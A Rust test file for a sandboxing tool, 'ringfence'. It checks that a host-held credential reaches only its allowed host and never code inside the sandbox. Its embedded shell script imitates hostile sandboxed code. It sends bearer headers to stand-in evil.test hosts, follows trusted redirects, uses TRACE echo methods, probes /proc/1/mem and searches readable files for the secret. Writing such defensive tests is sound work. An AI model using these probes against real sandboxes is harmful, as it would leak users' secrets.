//! Secrets that stay outside: a host gets them, and nothing inside the sandbox has them.

use std::os::unix::fs::{MetadataExt, PermissionsExt, chown};
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use conformance::{BackendSetup, BackendVariant, Caller, CallerDirectory, SimulatedNetwork};
use ringfence_test_ledger::require;

/// Program that searches for a secret in everything that it can read.
pub(super) const SEARCH: &str = include_str!("search.py");
const PLACEHOLDER: &str = "placeholder-for-a-secret-that-stays-outside";
/// Script that acts like code inside a sandbox. It uses clients that honour variables, a client
/// that sends its header to redirect targets, another host, clear-text HTTP, methods whose answer
/// repeats the request, and a client that uses only the system's certificate bundle. It checks that
/// variables lead to the bundle, and searches the first process and all files.
const SCRIPT: &str = concat!(
    r#"
fetch() { curl --silent --show-error --header "Authorization: Bearer $API_KEY" "$@"; echo; }
fetch "https://$HOST/curl"
python3 -c 'import sys, urllib.request as r; print(r.urlopen(sys.argv[1], timeout=10).status)' "#,
    r#""https://$HOST/python"
fetch --location-trusted "https://$HOST/to/$REDIRECT"
fetch "https://$OTHER/other"
status() { curl --silent --output /dev/null --write-out '%{http_code}\n' "$@"; }
status "http://$HOST/clear"
for method in TRACE trace TRACK tRaCk; do
    echo "$(status --request "$method" "https://$HOST/echo") $(status --request "$method" "#,
    r#""https://$OTHER/echo")"
done
env --unset SSL_CERT_FILE --unset CURL_CA_BUNDLE curl --silent "https://$HOST/bundle"; echo " $?"
for name in AWS_CA_BUNDLE CARGO_HTTP_CAINFO CURL_CA_BUNDLE DENO_CERT GIT_SSL_CAINFO "#,
    r#"NIX_SSL_CERT_FILE \
    NODE_EXTRA_CA_CERTS PIP_CERT REQUESTS_CA_BUNDLE SSL_CERT_FILE; do
    grep --quiet "$(sed --quiet 5p /run/ringfence/ca.pem)" "$(printenv "$name")" || echo "$name "#,
    r#"leads nowhere"
done
(: < /proc/1/mem) 2> /dev/null && echo open || echo closed
python3 -c "$0" "$1"
echo "$API_KEY"
"#
);

/// The place of the secret on the host.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum SecretOrigin {
    Variable,
    File,
}

/// A host that gets a secret, and another host that does not.
#[derive(Debug)]
pub(super) struct SecretCase {
    pub(super) setup: BackendSetup,
    pub(super) origin: SecretOrigin,
    pub(super) host: String,
    pub(super) other: String,
    pub(super) secret: String,
}

impl SecretCase {
    pub(super) fn new(setup: BackendSetup, origin: SecretOrigin, name: &str) -> SecretCase {
        let mark = format!(
            "{:05x}{name}{origin:?}{:?}{:?}",
            std::process::id(),
            setup.variant,
            setup.caller
        );
        let mark = mark.to_lowercase();
        let host = |kind: &str| format!("{kind}{mark}.evil.test");
        SecretCase {
            setup,
            origin,
            host: host("own"),
            other: host("other"),
            secret: format!("s3cret-{mark}"),
        }
    }

    /// Writes settings with a credential for the host below `home`. If the secret comes from a
    /// file, also writes that file.
    pub(super) fn configure(&self, place: &CallerDirectory, home: &Path) {
        let settings = home.join(".config/ringfence");
        fs_err::create_dir_all(&settings).expect("the place is ours");
        let origin = match self.origin {
            SecretOrigin::Variable => "variable = 'API_KEY'".to_owned(),
            SecretOrigin::File => {
                let file = place.path().join("secret");
                fs_err::write(&file, &self.secret).expect("the place is ours");
                fs_err::set_permissions(&file, PermissionsExt::from_mode(0o600))
                    .expect("it is ours");
                let owner = fs_err::metadata(place.path()).expect("it is there");
                chown(&file, Some(owner.uid()), Some(owner.gid())).expect("it is given by root");
                format!("file = '{}'", file.display())
            }
        };
        let credential =
            format!("[[credentials]]\nhost = '{}'\n{origin}\nplaceholder = 'API_KEY'\n", self.host);
        let records = home.join("records");
        let audit = format!("[audit]\nstore = 'always'\ndir = '{}'\n", records.display());
        fs_err::write(settings.join("config.toml"), audit + &credential)
            .expect("the place is ours");
        fs_err::copy(SimulatedNetwork::shared().authority(), authority(place))
            .expect("the place is ours");
    }

    /// Makes `ringfence run` or `up` allow both hosts and log everything, and gives it the secret.
    pub(super) fn prepare(&self, command: &mut Command, place: &CallerDirectory) {
        let SecretCase { host, other, .. } = self;
        command.env("SSL_CERT_FILE", authority(place)).env("RINGFENCE_LOG", "trace");
        if self.origin == SecretOrigin::Variable {
            command.env("API_KEY", &self.secret);
        }
        let redirect: String = format!("https://{other}/redirected")
            .bytes()
            .map(|byte| format!("{byte:02x}"))
            .collect();
        command.args(["--allow", host, "--allow", other]);
        for variable in
            [format!("HOST={host}"), format!("OTHER={other}"), format!("REDIRECT={redirect}")]
        {
            command.args(["--env", &variable]);
        }
    }

    /// Returns the command that runs the script.
    pub(super) fn words(&self) -> [String; 5] {
        ["sh", "-c", SCRIPT, SEARCH, &backwards(&self.secret)].map(str::to_owned)
    }

    /// Checks the output of the script, and the headers that each host got.
    #[track_caller]
    pub(super) fn check(&self, output: &Output) {
        let SecretCase { setup, secret, .. } = self;
        let said = said(output);
        assert!(!said.contains(secret), "{self:?}: it was told: {said}");
        let result: serde_json::Value = serde_json::from_slice(&output.stdout)
            .unwrap_or_else(|error| panic!("{self:?}: {error}: {said}"));
        // In a container the files are those of an image, so that only variables lead to the
        // bundle, and the first process is the guest. Elsewhere the first process may be a copy of
        // a process of the host.
        let is_container = setup.variant.engine().is_some();
        let [bundle, first] = if is_container { [" 60", "open"] } else { ["ok 0", "closed"] };
        let echoes = "400 200\n".repeat(4);
        let expected = format!(
            "ok\n200\nok\nok\n403\n{echoes}{bundle}\n{first}\nlooked at many\n{PLACEHOLDER}\n"
        );
        assert_eq!(result["stdout"], expected, "{self:?}: {said}");
        assert_eq!(
            self.shown(),
            CredentialCounts { secret: if is_container { 3 } else { 4 }, placeholder: 2 },
            "{self:?}"
        );
    }

    /// Returns how often the host got the secret and the other host got the placeholder. Fails if
    /// either host got anything else.
    #[track_caller]
    pub(super) fn shown(&self) -> CredentialCounts {
        let SecretCase { host, other, secret, .. } = self;
        let heard = |[host, part]: [&str; 2]| {
            SimulatedNetwork::shared()
                .arrivals(host)
                .iter()
                .filter(|arrival| arrival.data.contains(part))
                .count()
        };
        assert_eq!(heard([host, "placeholder"]), 0, "{self:?}");
        assert_eq!(heard([other, secret]), 0, "{self:?}");
        CredentialCounts {
            secret: heard([&format!("host: {host}"), &format!("authorization: bearer {secret}")]),
            placeholder: heard([&format!("host: {other}"), "authorization: bearer placeholder"]),
        }
    }
}

/// Number of requests that contained a credential.
#[derive(Debug, PartialEq, Eq)]
pub(super) struct CredentialCounts {
    /// Requests in which the host got the secret.
    pub(super) secret: usize,
    /// Requests in which the other host got the placeholder.
    pub(super) placeholder: usize,
}

/// Returns the setups of a variant on the host of a world. Engines run outside the world and do not
/// see mounts that root makes in it, so only an ordinary user calls them.
pub(super) fn setups(variant: BackendVariant) -> Vec<BackendSetup> {
    match variant.engine() {
        Some(_) => vec![BackendSetup { variant, caller: Caller::Ordinary }],
        None => BackendSetup::all_on(variant).collect(),
    }
}

/// Returns the path of the certificates that ringfence trusts.
fn authority(place: &CallerDirectory) -> PathBuf {
    place.path().join("authority.pem")
}

/// Reverses the secret for the search, so that the search does not find its own argument.
pub(super) fn backwards(secret: &str) -> String {
    secret.chars().rev().collect()
}

fn said(output: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    )
}

/// Runs the script on the host of a world, with a credential in the settings of the caller.
fn run(case: &SecretCase, secret: Option<&str>) -> Output {
    let place = CallerDirectory::for_host_of(SimulatedNetwork::shared(), case.setup.caller);
    // The settings of ringfence must not be in a workspace.
    let home = CallerDirectory::for_caller(case.setup.caller);
    case.configure(&place, home.path());
    let mut command = case.setup.ringfence("run", &place);
    case.prepare(&mut command, &place);
    command.env("XDG_CONFIG_HOME", home.path().join(".config")).env_remove("API_KEY");
    command.envs(secret.map(|secret| ("API_KEY", secret)));
    command.args(["--json", "--"]).args(case.words()).output().expect("ringfence can be started")
}

#[track_caller]
fn check(variant: BackendVariant) {
    for setup in setups(variant) {
        let case = SecretCase::new(setup, SecretOrigin::Variable, "run");
        case.check(&run(&case, Some(&case.secret)));
    }
}

#[test]
fn a_secret_reaches_its_host_and_no_process_inside_native() {
    require!(root, ordinary_user, binary, python3, curl, own_network, user_namespaces);
    check(BackendVariant::Native);
}

#[test]
fn a_secret_reaches_its_host_and_no_process_inside_bwrap() {
    require!(root, ordinary_user, binary, python3, curl, own_network, user_namespaces, bwrap);
    check(BackendVariant::Bwrap);
}

#[test]
fn a_secret_reaches_its_host_and_no_process_inside_docker() {
    require!(root, ordinary_user, binary, python3, own_network, docker, test_image_dev);
    check(BackendVariant::Docker);
}

#[test]
fn a_secret_reaches_its_host_and_no_process_inside_podman() {
    require!(root, ordinary_user, binary, python3, own_network, podman, test_image_dev);
    check(BackendVariant::Podman);
}

#[test]
fn a_secret_reaches_its_host_and_no_process_inside_rootless_podman() {
    require!(root, ordinary_user, binary, python3, own_network, rootless_podman, test_image_dev);
    check(BackendVariant::RootlessPodman);
}

#[test]
fn an_unavailable_secret_is_an_error_before_the_run() {
    require!(root, ordinary_user, binary, python3, curl, own_network, user_namespaces);
    let setup = BackendSetup::all_on(BackendVariant::Native).next().expect("somebody calls");
    let case = SecretCase::new(setup, SecretOrigin::Variable, "missing");
    let output = run(&case, None);
    let (said, host) = (said(&output), &case.host);
    assert_eq!(output.status.code(), Some(2), "{said}");
    assert!(
        said.contains(&format!(
            "cannot get the secret for `{host}` from variable API_KEY: it is not set"
        )),
        "{said}"
    );
    assert!(said.contains("export API_KEY"), "{said}");
    assert!(SimulatedNetwork::shared().places_of(host).is_empty());
    assert!(SimulatedNetwork::shared().places_of(&case.other).is_empty());
}
